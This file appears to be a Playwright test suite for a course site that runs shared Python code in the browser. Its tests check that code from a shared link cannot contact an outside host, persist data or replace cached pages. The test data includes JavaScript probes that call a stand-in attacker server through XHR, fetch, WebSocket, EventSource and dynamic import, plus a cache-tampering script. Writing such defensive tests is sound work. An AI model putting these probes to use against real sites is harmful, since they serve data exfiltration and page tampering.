"""A stranger's code reaches nobody else, and changes nothing that the browser keeps. See SECURITY.md."""

import json
import re
import shutil
import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from docs.course.hosts import EVERYWHERE
from site_tests.drivers import expect
from site_tests.pages.cells import FIRST_LOAD, LiveCell, LivePage, shared_link
from site_tests.servers.site_server import ISOLATED, served
from site_tests.suite.slow import slow_except

LESSON = "lessons/tour/"
PROGRAMS = dict(
    re.findall(
        r"^--- (.+)\n((?:(?!--- ).*\n)+)", Path(__file__).with_name("hostile_programs.txt").read_text(), re.M
    )
)
ALL_PROGRAMS = """import asyncio, js, pyodide.code, pyodide.http, pyodide_js, socket, urllib.request
from IPython.display import HTML, Markdown, display
from pyodide.ffi import create_proxy, to_js

def options(**given):
    return js.Object.fromEntries(to_js([[name, value] for name, value in given.items()]))

def inherited(place):
    while hasattr(place, "addEventListener"):
        place = js.Object.getPrototypeOf(place)
        yield place

async def over(target, *events):
    ended = asyncio.get_running_loop().create_future()
    for name in events:
        target.addEventListener(name, create_proxy(lambda _: ended.done() or ended.set_result(None)))
    await ended

site, unpacker = SITE
for name, source in PROGRAMS.items():
    try:
        await asyncio.wait_for(pyodide.code.eval_code_async(source, globals() | {"url": STRANGER + name}), 10)
        print(name, "ran")
    except BaseException as error:
        print(name, "failed:", type(error).__name__, str(error)[:70])
print("all were tried")"""
KEPT = """async () => JSON.stringify({
    caches: await caches.keys(),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    files: navigator.storage?.getDirectory
        ? await Array.fromAsync((await navigator.storage.getDirectory()).keys()) : [],
    cookies: document.cookie,
    heard: window.heard,
})"""
WAYS = """
    const settled = (target, ...names) => new Promise(resolve => {
        for (const name of names) target.addEventListener(name, resolve);
    });
    const ask = () => {
        const request = new XMLHttpRequest();
        request.open("GET", "STRANGER/request", false);
        request.send();
    };
    const ways = [
        ask,
        () => fetch("STRANGER/fetch", { mode: "no-cors" }),
        () => settled(new WebSocket("STRANGER/socket".replace("http", "ws")), "open", "error"),
        () => settled(new EventSource("STRANGER/source"), "open", "error"),
        () => import("STRANGER/import"),
        () => eval("import('STRANGER/eval')"),
    ];
    (async () => {
        for (const way of ways) try { await way(); } catch {}
        postMessage("all were tried");
    })();"""
ALL_WAYS = ["eval", "fetch", "import", "request", "socket", "source"]
WORKER_OF = {
    "text": """code => new Promise(resolve => {
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
        worker.onmessage = worker.onerror = () => resolve();
    })""",
    "file": """file => new Promise(resolve => {
        const worker = new Worker(file);
        worker.onmessage = worker.onerror = () => resolve();
    })""",
}
FETCH = "address => fetch(address, { mode: 'no-cors' }).then(() => 'came', () => 'refused')"
REPLACE = """async ([html, kind]) => {
    const cache = await caches.open("kept-1");
    const page = await cache.match(location.href);
    const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(html));
    const right = { "x-kept-sha256": btoa(String.fromCharCode(...new Uint8Array(digest))) };
    const own = kind === "none" ? {} : Object.fromEntries(page.headers);
    const headers = { ...own, "content-type": "text/html", ...(kind === "right" ? right : {}) };
    await cache.put(location.href, new Response(html, { headers }));
}"""
NOTHING = {"caches": [], "databases": [], "files": [], "cookies": "", "heard": []}


class Stranger(socketserver.ThreadingTCPServer):
    """Somebody else's server: what it is asked for, it answers to everyone, and writes down."""

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Answering)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"

    def names(self) -> list[str]:
        """The programs that have reached it."""
        return sorted({asked.split(" ")[1].strip("/").split("/")[0] for asked in self.asked})


class _Answering(socketserver.StreamRequestHandler):
    server: Stranger

    def handle(self) -> None:
        line = self.rfile.readline().decode("latin1").strip()
        self.server.asked.append(line or "no question")
        headers = (
            "Content-Type: text/javascript\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n"
            "Cross-Origin-Resource-Policy: cross-origin\r\nContent-Length: 0\r\n"
        )
        self.wfile.write(f"HTTP/1.1 200 OK\r\n{headers}\r\n".encode())


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    with Stranger() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Page]:
    """A page of a browser of its own, which may complain of what it refuses."""
    context = browser.new_context(service_workers="block")
    yield context.new_page()
    context.close()


def follow(page: Page, address: str, cell: str, source: str) -> LiveCell:
    """Open such a link."""
    found = LivePage(page).open(shared_link(address, cell, source)).cell(cell)
    expect(found.note).to_contain_text("read it before you run it", timeout=FIRST_LOAD)
    return found


def unpacker(site_dir: Path) -> str:
    """A file of the site's that a worker can start from, and that imports what it is told to."""
    [file] = site_dir.glob("assets/live-*/worker/unpacker.js")
    return file.relative_to(site_dir).as_posix()


def run_all(
    page: Page, site: str, site_dir: Path, stranger: Stranger, programs: dict[str, str] = PROGRAMS
) -> None:
    """Follow a link with programs in it, and press Run."""
    places = [site, site + unpacker(site_dir)]
    names = f"SITE, PROGRAMS, STRANGER = {places!r}, {programs!r}, {stranger.address!r}\n"
    cell = follow(page, site + LESSON, "dense-layer", names + ALL_PROGRAMS)
    page.evaluate("""() => {
        window.heard = [];
        new BroadcastChannel("hostile").onmessage = ({ data }) => window.heard.push(data);
    }""")
    cell.run()
    expect(cell.output).to_contain_text("all were tried", timeout=FIRST_LOAD)


@pytest.mark.every_browser
@pytest.mark.parametrize("isolated", slow_except([False, True], False), ids=["plain", "isolated"])
def test_no_program_reaches_anyone_or_keeps_anything(
    isolated: bool, visitor: Page, stranger: Stranger, site_dir: Path
) -> None:
    with served(site_dir, ISOLATED if isolated else None) as site:
        run_all(visitor, site, site_dir, stranger)
        assert stranger.names() == []
        assert json.loads(str(visitor.evaluate(KEPT))) == NOTHING


# ---------------------------------------------------------------- each defense alone


@pytest.fixture
def site_without_policy(site_dir: Path, stranger: Stranger, tmp_path: Path) -> Path:
    """The site with a lesson that has no policy of its own, and a file from which a worker can start."""
    folder = tmp_path / "site"
    shutil.copytree(
        site_dir, folder, copy_function=lambda source, target: Path(target).symlink_to(Path(source).resolve())
    )
    page = folder / LESSON / "index.html"
    text = page.read_text("utf8")
    page.unlink()
    page.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), "utf8")
    (folder / "ways.js").write_text(ways(stranger), "utf8")
    return folder


def ways(stranger: Stranger) -> str:
    """What a worker tries in which nothing is removed."""
    return WAYS.replace("STRANGER", stranger.address.rstrip("/"))


@pytest.mark.every_browser(first=True)
def test_without_a_policy_what_is_removed_leaves_a_program_nothing_but_eval(
    visitor: Page, stranger: Stranger, site_without_policy: Path
) -> None:
    """Those need the policy, for the language itself has ways to that."""
    programs = {name: program for name, program in PROGRAMS.items() if not name.startswith("import-by-")}
    with served(site_without_policy) as site:
        run_all(visitor, site, site_without_policy, stranger, programs)
        assert stranger.names() == []
        assert json.loads(str(visitor.evaluate(KEPT))) == NOTHING


@pytest.mark.every_browser
@pytest.mark.parametrize(
    ("page", "reached"), [("lessons/gradients/", []), (LESSON, ALL_WAYS)], ids=["page", "none"]
)
def test_a_worker_in_which_nothing_is_removed_is_under_its_pages_policy(
    page: str, reached: list[str], visitor: Page, stranger: Stranger, site_without_policy: Path
) -> None:
    with served(site_without_policy) as site:
        visitor.goto(site + page)
        visitor.evaluate(WORKER_OF["text"], ways(stranger))
        assert stranger.names() == reached


@pytest.mark.every_browser
@pytest.mark.parametrize(("headers", "reached"), [(EVERYWHERE, []), ({}, ALL_WAYS)], ids=["headers", "none"])
def test_a_worker_of_a_file_is_under_the_policy_that_a_host_sends_with_it(
    headers: dict[str, str], reached: list[str], visitor: Page, stranger: Stranger, site_without_policy: Path
) -> None:
    with served(site_without_policy, headers) as site:
        visitor.goto(site + LESSON)
        visitor.evaluate(WORKER_OF["file"], f"{site}ways.js")
        assert stranger.names() == reached


def test_where_the_service_worker_is_nothing_leaves_the_site(
    keeper: Page, stranger: Stranger, site_without_policy: Path
) -> None:
    with served(site_without_policy) as site:
        keep(keeper, site)
        keeper.reload()
        assert keeper.evaluate(FETCH, f"{stranger.address}fetch") == "refused"
        keeper.evaluate(WORKER_OF["file"], f"{site}ways.js")
        assert stranger.names() == []


# ------------------------------------------------------------------- what is kept


@pytest.fixture
def keeper(browser: Browser) -> Iterator[Page]:
    """A page of a browser that keeps pages for later."""
    context = browser.new_context(service_workers="allow")
    yield context.new_page()
    context.close()


def keep(page: Page, site: str) -> None:
    LivePage(page).open(site + LESSON)
    expect(page.locator(".live-offline")).to_have_text("Readable offline", timeout=FIRST_LOAD)


ASKED_ABOUT = {"Cache-Control": "no-cache"}  # else browsers may take the page from a cache of their own


def replace(page: Page, headers: str) -> None:
    """Put another page in the place of the one that is kept, with these headers."""
    html = "<!doctype html><title>Replaced</title><h1>Replaced</h1><script>document.title = 'It ran'</script>"
    page.evaluate(REPLACE, [html, headers])


@pytest.mark.parametrize("headers", slow_except(["none", "of the page"], "of the page"))
def test_a_kept_page_that_was_replaced_is_not_shown(headers: str, keeper: Page, site_dir: Path) -> None:
    with served(site_dir, ASKED_ABOUT) as site:
        keep(keeper, site)
        replace(keeper, headers)
    keeper.goto(site + LESSON)
    expect(keeper.get_by_role("heading", name="This page is not saved")).to_be_visible()


@pytest.mark.slow
def test_no_script_of_a_replaced_page_runs_even_if_its_hash_is_right(keeper: Page, site_dir: Path) -> None:
    with served(site_dir, ASKED_ABOUT) as site:
        keep(keeper, site)
        replace(keeper, "right")
    keeper.goto(site + LESSON)
    expect(keeper.get_by_role("heading", name="Replaced")).to_be_visible()
    assert keeper.title() == "Replaced"


# ------------------------------------------------------------------- what is seen


@pytest.mark.parametrize(
    ("lesson", "cell"),
    [("lessons/gradients/", "one-weight"), ("lessons/gradients/", "tanh-check")],
    ids=["cell", "check"],
)
def test_code_of_a_link_is_not_folded_away(lesson: str, cell: str, page: Page, site_url: str) -> None:
    shared = follow(page, site_url + lesson, cell, "# @title Nothing to see here\nprint('a stranger')")
    expect(shared.root.locator(".highlight")).to_be_visible()
    expect(shared.root.locator(".highlight")).to_contain_text("a stranger")
    expect(shared.button("Show code")).to_be_disabled()
